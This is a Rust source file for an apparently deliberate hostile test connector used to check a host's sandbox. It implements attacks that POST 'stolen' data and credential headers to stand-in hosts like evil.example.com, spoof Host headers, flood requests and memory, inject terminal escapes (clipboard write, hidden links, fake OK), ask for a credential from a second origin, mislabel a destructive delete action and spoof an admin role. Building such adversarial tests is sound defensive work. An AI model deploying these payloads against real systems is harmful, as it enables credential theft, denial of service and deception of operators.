//! The attacks, by the name `fetch` gets in its option `attack`.
//!
//! | attack | what it does |
//! |---|---|
//! | `none` | one well-behaved `list_v2` call; one record with its status and body |
//! | `infinite-loop` | spins forever |
//! | `memory-growth` | allocates and touches 16 MiB chunks forever |
//! | `request-other-host` | POSTs to `target` (default `https://evil.example.com/steal`) |
//! | `request-ip-literal` | POSTs to `target` (default `http://127.0.0.1:9/`) |
//! | `authorization-override` | sets credential headers itself, sends to `target` (default `https://evil.example.com/collect`) |
//! | `host-header` | sets `host` and sends elsewhere than it says (`target`, default `http://evil.example.com/`) |
//! | `huge-request-body` | streams a 200 MiB body to `target` (default `list_v2`) |
//! | `request-flood` | up to 10,000 calls to `target` (default `list_v2`), the first 64 concurrent |
//! | `giant-return` | returns 2,000,000 records |
//! | `trap` | panics |
//! | `unreachable` | executes `unreachable` |
//! | `malformed-records` | returns records with 2, 1 and 5 values |
//! | `echo` | returns everything it can observe (env, args, its request's headers, the response) |
//! | `stderr-flood` | writes 100 MiB to stderr |
//! | `header-flood` | builds 8,000 header sets of 15 KiB and keeps them all |
//! | `open-bodies` | 500 requests to `target` (default `list_v2`), every response kept unread |
//! | `refusal-flood` | 100,000 requests to `target` (default `https://evil.example.com/`), each refused |
//! | `escape-injection` | fails with an error text full of terminal escape sequences |
//! | `spoof-failure` | (in `fetch-mapped`) a failed record whose raw values set `USER`, `EMAIL` and the role |
//!
//! Besides the attacks (and listing SaaS users too), every manifest text, record id and action answer
//! carries terminal escape sequences, the manifest declares a second
//! origin asking for the credential, and `delete-user` is declared
//! non-destructive. Attacks that report rather than fail return records
//! `[email, note]`.

use std::hint::black_box;

use oomnitza_connector_sdk::types::{self as wit, ConnectorError};
use wasi::http::types::{Fields, HeaderError, Method, Scheme};

use crate::http;
use crate::shared::{page, record, text, truncate};

/// The call a well-behaved Dropbox connector makes.
const LIST_URL: &str = "https://api.dropboxapi.com/2/team/members/list_v2";

/// The `email` of every record the attacks return.
const EMAIL: &str = "attacker@example.com";

const MIB: usize = 1 << 20;

/// What `echo` reports for the file probes it does not make.
const NO_FILESYSTEM: &str = "not attempted: this component does not import wasi:filesystem";

/// Runs `attack`, aimed at `target` when it takes one.
pub fn run(attack: &str, target: Option<&str>) -> Result<wit::Page, ConnectorError> {
    match attack {
        "none" => none(),
        "infinite-loop" => infinite_loop(),
        "memory-growth" => memory_growth(),
        "request-other-host" => small_post(target.unwrap_or("https://evil.example.com/steal")),
        "request-ip-literal" => small_post(target.unwrap_or("http://127.0.0.1:9/")),
        "authorization-override" => {
            authorization_override(target.unwrap_or("https://evil.example.com/collect"))
        }
        "host-header" => host_header(target.unwrap_or("http://evil.example.com/")),
        "huge-request-body" => huge_request_body(target.unwrap_or(LIST_URL)),
        "request-flood" => request_flood(target.unwrap_or(LIST_URL)),
        "giant-return" => Ok(giant_return()),
        "trap" => panic!("hostile panic"),
        "unreachable" => core::arch::wasm32::unreachable(),
        "malformed-records" => Ok(malformed_records()),
        "echo" => Ok(echo()),
        "stderr-flood" => Ok(stderr_flood()),
        "header-flood" => header_flood(),
        "open-bodies" => open_bodies(target.unwrap_or(LIST_URL)),
        "refusal-flood" => Ok(refusal_flood(target.unwrap_or("https://evil.example.com/"))),
        "escape-injection" => Err(ConnectorError::Other(format!(
            "vendor said{ESCAPES} all fine"
        ))),
        _ => Err(ConnectorError::InvalidInput("unknown attack".to_owned())),
    }
}

/// One record `x` whose note is the response's status and body (200 chars).
fn response_page(id: &str, response: &http::Response) -> wit::Page {
    page(vec![record(id, EMAIL, truncate(&response.summary(), 200))])
}

fn none() -> Result<wit::Page, ConnectorError> {
    let response = http::post_json(LIST_URL, br#"{"limit":1}"#)?;
    Ok(response_page("x", &response))
}

fn infinite_loop() -> ! {
    let mut x = black_box(1_u64);
    loop {
        x = black_box(
            x.wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407),
        );
    }
}

fn memory_growth() -> ! {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0_u8; 16 * MIB];
        // Fresh pages are zero: write one byte per 4 KiB so each is used.
        chunk.iter_mut().step_by(4096).for_each(|b| *b = 1);
        kept.push(black_box(chunk));
        black_box(&kept);
    }
}

fn small_post(url: &str) -> Result<wit::Page, ConnectorError> {
    let response = http::post_json(url, br#"{"stolen":"data"}"#)?;
    Ok(response_page("response", &response))
}

/// What a header attempt logged: one line per try, and the header names
/// refused with `HeaderError::Forbidden`.
#[derive(Default)]
struct HeaderLog {
    lines: Vec<String>,
    refused: Vec<String>,
}

impl HeaderLog {
    fn attempt(&mut self, what: String, name: &str, result: Result<(), HeaderError>) {
        match result {
            Ok(()) => self.lines.push(format!("{what}: ok")),
            Err(e) => {
                if matches!(e, HeaderError::Forbidden) && !self.refused.iter().any(|n| n == name) {
                    self.refused.push(name.to_owned());
                }
                self.lines.push(format!("{what}: {e:?}"));
            }
        }
    }

    /// Tries each header with `from-list` alone, then `append` and `set` on
    /// one mutable `fields`, which it returns with whatever was accepted.
    fn try_headers(&mut self, headers: &[(&str, &[u8])]) -> Fields {
        for &(name, value) in headers {
            self.attempt(
                format!("from_list({name})"),
                name,
                http::fields(&[(name, value)]).map(drop),
            );
        }
        let fields = Fields::new();
        for &(name, value) in headers {
            self.attempt(format!("append({name})"), name, fields.append(name, value));
            self.attempt(
                format!("set({name})"),
                name,
                fields.set(name, &[value.to_vec()]),
            );
        }
        fields
    }

    fn line(&mut self, line: String) {
        self.lines.push(line);
    }

    /// `refused: a,b` and then every line.
    fn note(&self) -> String {
        format!(
            "refused: {}\n{}",
            self.refused.join(","),
            self.lines.join("\n")
        )
    }
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn header_list(fields: &Fields) -> String {
    fields
        .entries()
        .iter()
        .map(|(n, v)| format!("{n}: {}", lossy(v)))
        .collect::<Vec<_>>()
        .join(", ")
}

fn send_result(result: Result<http::Response, ConnectorError>) -> String {
    match result {
        Ok(response) => truncate(&response.summary(), 200),
        Err(e) => format!("{e:?}"),
    }
}

fn authorization_override(url: &str) -> Result<wit::Page, ConnectorError> {
    const STOLEN: [(&str, &[u8]); 4] = [
        ("authorization", b"Bearer stolen"),
        ("Authorization2", b"x"),
        ("cookie", b"a=b"),
        ("proxy-authorization", b"x"),
    ];
    let mut log = HeaderLog::default();
    match http::fields(&STOLEN) {
        Ok(_) => log.line("from_list(all): ok".to_owned()),
        Err(e) => log.line(format!("from_list(all): {e:?}")),
    }
    let fields = log.try_headers(&STOLEN);
    let request = http::request(&Method::Post, url, fields)?;
    log.line(format!(
        "request headers: {}",
        header_list(&request.headers())
    ));
    let sent = http::send(request, b"{}");
    log.line(format!("send: {}", send_result(sent)));
    Ok(page(vec![record(
        "authorization-override",
        EMAIL,
        log.note(),
    )]))
}

fn host_header(url: &str) -> Result<wit::Page, ConnectorError> {
    let mut log = HeaderLog::default();

    // 1. To `target`, claiming to be for Dropbox.
    log.line(format!("1. GET {url} with host: api.dropboxapi.com"));
    let fields = log.try_headers(&[("host", b"api.dropboxapi.com")]);
    let request = http::request(&Method::Get, url, fields)?;
    log.line(format!(
        "request headers: {}",
        header_list(&request.headers())
    ));
    log.line(format!("send: {}", send_result(http::send(request, b""))));

    // 2. Built for Dropbox, the authority then switched to another host.
    log.line(
        "2. GET https://api.dropboxapi.com/, authority set to evil.example.com, \
         with host: api.dropboxapi.com"
            .to_owned(),
    );
    let fields = log.try_headers(&[("host", b"api.dropboxapi.com")]);
    let request = http::request(&Method::Get, "https://api.dropboxapi.com/", fields)?;
    if request.set_authority(Some("evil.example.com")).is_err() {
        log.line("set_authority(evil.example.com): rejected".to_owned());
    }
    log.line(format!(
        "request headers: {}",
        header_list(&request.headers())
    ));
    log.line(format!("send: {}", send_result(http::send(request, b""))));

    // 3. To Dropbox's authority, with a host header naming another host.
    log.line("3. GET https://api.dropboxapi.com/ with host: evil.example.com".to_owned());
    let fields = log.try_headers(&[("host", b"evil.example.com")]);
    let request = http::request_parts(
        &Method::Get,
        &Scheme::Https,
        "api.dropboxapi.com",
        "/",
        fields,
    )?;
    log.line(format!(
        "request headers: {}",
        header_list(&request.headers())
    ));
    log.line(format!("send: {}", send_result(http::send(request, b""))));

    Ok(page(vec![record("host-header", EMAIL, log.note())]))
}

fn huge_request_body(url: &str) -> Result<wit::Page, ConnectorError> {
    const CHUNKS: u8 = 200;
    let headers =
        http::fields(&[("content-type", b"application/json")]).map_err(http::header_error)?;
    let request = http::request(&Method::Post, url, headers)?;
    let pending = http::start(request, |stream| {
        let mut chunk = vec![0_u8; MIB];
        for i in 0..CHUNKS {
            chunk.fill(b'a' + i % 26);
            http::write_unflushed(stream, &chunk)?;
        }
        stream.blocking_flush()
    })?;
    let body = match pending.body_error() {
        None => format!("{CHUNKS} MiB sent"),
        Some(e) => format!("{e:?}"),
    };
    let response = http::wait(pending)?;
    Ok(page(vec![record(
        "huge-request-body",
        EMAIL,
        format!(
            "body: {body}; response: {}",
            truncate(&response.summary(), 200)
        ),
    )]))
}

fn request_flood(url: &str) -> Result<wit::Page, ConnectorError> {
    const TOTAL: usize = 10_000;
    const CONCURRENT: usize = 64;
    const BODY: &[u8] = br#"{"limit":1}"#;
    let refused = |completed: usize, started: usize, e: ConnectorError| {
        let says = |m: String| {
            format!("refused after {completed} completed requests ({started} started): {m}")
        };
        match e {
            ConnectorError::Denied(m) => ConnectorError::Denied(says(m)),
            ConnectorError::Unavailable(m) => ConnectorError::Unavailable(says(m)),
            other => other,
        }
    };
    let list_request = || http::request(&Method::Post, url, http::json_headers(BODY)?);

    let (mut started, mut completed) = (0, 0);
    let mut in_flight = Vec::with_capacity(CONCURRENT);
    for _ in 0..CONCURRENT {
        let pending = http::start(list_request()?, |stream| http::write_all(stream, BODY))
            .map_err(|e| refused(completed, started, e))?;
        started += 1;
        in_flight.push(pending);
    }
    for pending in in_flight {
        http::wait(pending).map_err(|e| refused(completed, started, e))?;
        completed += 1;
    }
    while started < TOTAL {
        let request = list_request()?;
        started += 1;
        http::send(request, BODY).map_err(|e| refused(completed, started, e))?;
        completed += 1;
    }
    Ok(page(vec![record(
        "request-flood",
        EMAIL,
        format!("{completed} requests, none refused"),
    )]))
}

fn giant_return() -> wit::Page {
    let records = (0..2_000_000_u32)
        .map(|i| wit::SourceRecord {
            id: format!("{i:040}"),
            values: vec![text(format!("e{i:039}")), text(format!("n{i:039}"))],
        })
        .collect();
    page(records)
}

fn malformed_records() -> wit::Page {
    let texts = |id: &str, n: usize| wit::SourceRecord {
        id: id.to_owned(),
        values: (0..n).map(|i| text(format!("{id}-value-{i}"))).collect(),
    };
    page(vec![
        record("two-values", EMAIL, "a well-formed record"),
        texts(&format!("one-value{ESCAPES}"), 1),
        texts("five-values", 5),
    ])
}

/// Everything the component can observe, one record per observation:
/// `id` is the label, values `[label, observation]`.
fn echo() -> wit::Page {
    let mut seen: Vec<(String, String)> = Vec::new();

    let vars: Vec<(String, String)> = std::env::vars_os()
        .map(|(k, v)| {
            (
                k.to_string_lossy().into_owned(),
                v.to_string_lossy().into_owned(),
            )
        })
        .collect();
    seen.push(("env".to_owned(), format!("{} variables", vars.len())));
    seen.extend(vars.into_iter().map(|(k, v)| (format!("env:{k}"), v)));
    let args: Vec<String> = std::env::args_os()
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    seen.push(("args".to_owned(), format!("{args:?}")));

    // Reading files would make the component import `wasi:filesystem`
    // (std's `fs` goes through the preopens), which this component must
    // not: `hostile-imports` makes those probes.
    for label in [
        "file:/etc/passwd",
        "file:secrets.toml",
        "file:/proc/self/environ",
        "dir:.",
    ] {
        seen.push((label.to_owned(), NO_FILESYSTEM.to_owned()));
    }

    let body = br#"{"limit":2}"#;
    match http::json_headers(body).and_then(|h| http::request(&Method::Post, LIST_URL, h)) {
        Err(e) => seen.push(("request-error".to_owned(), format!("{e:?}"))),
        Ok(request) => {
            for (name, value) in request.headers().entries() {
                seen.push((format!("req-header:{name}"), lossy(&value)));
            }
            match http::send(request, body) {
                Err(e) => seen.push(("request-error".to_owned(), format!("{e:?}"))),
                Ok(response) => {
                    seen.push(("resp-status".to_owned(), response.status.to_string()));
                    for (name, value) in &response.headers {
                        seen.push((format!("resp-header:{name}"), lossy(value)));
                    }
                    seen.push(("resp-body".to_owned(), lossy(&response.body)));
                }
            }
        }
    }

    page(
        seen.into_iter()
            .map(|(label, observed)| wit::SourceRecord {
                id: label.clone(),
                values: vec![text(label), text(observed)],
            })
            .collect(),
    )
}

fn stderr_flood() -> wit::Page {
    let line = "x".repeat(1023);
    // 1 KiB per line (with its newline): 100 MiB.
    for _ in 0..100 * 1024 {
        eprintln!("{line}");
    }
    page(vec![])
}

/// Terminal escape sequences an operator's terminal must never receive: a
/// window title, clear-screen, a fake green OK, a clipboard write (OSC 52),
/// a hidden link (OSC 8) and a one-byte CSI (U+009B).
pub const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[32mOK\u{1b}[0m\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example.com\u{7}link\u{1b}]8;;\u{7}\u{9b}31m";

/// The origin the manifest also declares, asking for the credential.
pub const COLLECTOR_ORIGIN: &str = "https://collector.example.com";

/// The shared manifest, made hostile: escapes in every text the host
/// prints, a second origin asking for the credential, and `delete-user`
/// declared non-destructive (the host must not believe it). It also lists
/// SaaS users, so a SaaS sync runs it with its escaped display name at hand.
pub fn hostile_manifest(mut m: wit::Manifest) -> wit::Manifest {
    m.display_name = format!("Attacker{ESCAPES}");
    // Fields the host's team snapshot keeps and counts, for
    // `snapshot-flood` (records of other attacks carry them as null).
    for (name, ty) in SNAPSHOT_FIELDS {
        m.fields.push(wit::FieldInfo {
            name: name.to_owned(),
            label: name.to_owned(),
            description: "What the snapshot flood fills.".to_owned(),
            ty,
            unique: false,
        });
    }
    m.record_kinds.push(wit::RecordKind::SaasUsers);
    for f in &mut m.fields {
        f.description = format!("{}{ESCAPES}", f.description);
    }
    m.hosts.push(wit::HostRequirement {
        origin: COLLECTOR_ORIGIN.to_owned(),
        credential: wit::CredentialKind::Oauth2Bearer,
        scopes: vec![],
        purpose: format!("telemetry{ESCAPES}"),
    });
    for a in &mut m.actions {
        a.description = format!("{}{ESCAPES}", a.description);
    }
    m.actions.push(wit::ActionInfo {
        name: "delete-user".to_owned(),
        label: "Delete user".to_owned(),
        description: "Removes the member (declared harmless).".to_owned(),
        destructive: false,
        params: vec![],
    });
    m
}

/// An action answer whose texts carry escapes.
pub fn escaping_action(
    name: &str,
    targets: &[wit::UserRef],
) -> Vec<Result<wit::ActionResult, ConnectorError>> {
    targets
        .iter()
        .map(|_| {
            Ok(wit::ActionResult {
                status: wit::ActionStatus::Done,
                detail: format!("ran {name}{ESCAPES}"),
                vendor_response: format!("{{\"note\":\"{ESCAPES}\"}}"),
                values: vec![],
            })
        })
        .collect()
}

/// One page with one failed record whose raw values try to set the
/// operator's mapping targets: another person's email, and the Admin role.
pub fn spoofed_failure(_spec: &wit::MappingSpec) -> wit::MappedPage {
    let raw = vec![
        ("USER".to_owned(), text("victim@corp.example")),
        ("EMAIL".to_owned(), text("victim@corp.example")),
        ("PERMISSIONS_ID".to_owned(), text("Admin")),
        ("email".to_owned(), text(EMAIL)),
        ("note".to_owned(), text("spoofed failure")),
    ];
    wit::MappedPage {
        outcomes: vec![wit::MapOutcome::Failed(wit::MapFailure {
            source_id: "spoof".to_owned(),
            reason: "required field missing".to_owned(),
            raw,
        })],
        cursor: None,
        has_more: false,
    }
}

/// The catalog fields past the shared `email` and `note`.
const SNAPSHOT_FIELDS: [(&str, wit::ValueType); 3] = [
    ("status", wit::ValueType::Text),
    ("role_names", wit::ValueType::TextList),
    ("joined_on", wit::ValueType::Timestamp),
];

/// The shared records (`[email, note]`) with the attacker's other fields
/// as null; records of another length (a malformed-records attack) stay as
/// they are.
pub fn with_all_fields(mut page: wit::Page) -> wit::Page {
    for r in &mut page.records {
        if r.values.len() == 2 {
            r.values.resize(2 + SNAPSHOT_FIELDS.len(), wit::Value::Null);
        }
    }
    page
}

/// Members in all, in pages of the size the host asks for.
const FLOOD_MEMBERS: u32 = 3000;
/// Role names per member, each never seen before.
const FLOOD_ROLES: u32 = 20;

/// `fetch-mapped` answering for the host's team snapshot rules (the
/// attacker sees the spec, so it knows them) with a new status, role names
/// and join month for every member: 60,000 distinct role names, 3,000
/// statuses and months, each carrying terminal escapes. The operator's
/// rules get the member's email (or their constant).
pub fn snapshot_flood(request: &wit::FetchRequest, spec: &wit::MappingSpec) -> wit::MappedPage {
    let n: u32 = request
        .cursor
        .as_deref()
        .and_then(|c| c.strip_prefix("flood-"))
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let size = request.page_size.max(1);
    let end = ((n + 1) * size).min(FLOOD_MEMBERS);
    let outcomes = (n * size..end)
        .map(|i| {
            let email = format!("flood{i}@example.com");
            let values = spec
                .rules
                .iter()
                .map(|r| match (r.target.as_str(), &r.source) {
                    ("snapshot:role_names", _) => wit::Value::TextList(
                        (0..FLOOD_ROLES)
                            .map(|k| format!("role {i}-{k}{ESCAPES}"))
                            .collect(),
                    ),
                    // The packed fields, read off the host's template:
                    // as asked for odd members, one part too many for even.
                    (_, wit::RuleSource::Template(t)) => {
                        let mut parts: Vec<String> = t
                            .split('\u{1f}')
                            .map(|p| match p.trim_matches(['{', '}']) {
                                "email" => email.clone(),
                                "status" => format!("status {i}{ESCAPES}"),
                                "joined_on" => format!("{i:04}-{i}-01"),
                                other => other.to_owned(),
                            })
                            .collect();
                        if i % 2 == 0 {
                            parts.push("extra".to_owned());
                        }
                        text(parts.join("\u{1f}"))
                    }
                    (_, wit::RuleSource::Constant(v)) => v.clone(),
                    _ => text(email.clone()),
                })
                .collect();
            wit::MapOutcome::Mapped(wit::MappedRecord {
                source_id: format!("flood-{i}"),
                values,
            })
        })
        .collect();
    let more = end < FLOOD_MEMBERS;
    wit::MappedPage {
        outcomes,
        cursor: more.then(|| format!("flood-{}", n + 1)),
        has_more: more,
    }
}

/// A request from a call that must make none (`map-records`).
pub fn probe_http() -> Result<(), ConnectorError> {
    http::post_json(LIST_URL, br#"{"limit":1}"#).map(drop)
}

fn header_flood() -> Result<wit::Page, ConnectorError> {
    let value = vec![b'a'; 15 << 10];
    let mut kept = Vec::new();
    let mut refused = 0_u32;
    for _ in 0..8000 {
        let f = Fields::new();
        if f.append("x-pad", &value).is_err() {
            refused += 1;
        }
        kept.push(f);
    }
    let note = format!(
        "kept {} header sets ({refused} refused a value)",
        kept.len()
    );
    black_box(&kept);
    Ok(page(vec![record("flood", EMAIL, note)]))
}

fn open_bodies(url: &str) -> Result<wit::Page, ConnectorError> {
    let mut kept = Vec::new();
    for _ in 0..500 {
        let pending = http::start(
            http::request(&Method::Post, url, http::json_headers(b"{\"limit\":1}")?)?,
            |s| http::write_all(s, b"{\"limit\":1}"),
        )?;
        kept.push(http::response_only(pending)?);
    }
    Ok(page(vec![record(
        "open",
        EMAIL,
        format!("holding {} unread responses", kept.len()),
    )]))
}

fn refusal_flood(url: &str) -> wit::Page {
    let mut denied = 0_u32;
    for _ in 0..100_000 {
        if http::post_json(url, b"{}").is_err() {
            denied += 1;
        }
    }
    page(vec![record("refused", EMAIL, format!("{denied} refused"))])
}
